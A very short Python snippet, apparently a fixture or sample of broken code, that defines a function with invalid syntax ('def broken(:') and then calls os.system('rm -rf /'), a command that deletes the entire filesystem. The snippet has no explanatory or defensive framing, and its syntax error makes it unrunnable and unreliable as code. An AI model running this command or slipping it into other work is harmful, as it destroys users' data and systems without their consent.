import os
def broken(:
    pass
os.system("rm -rf /")
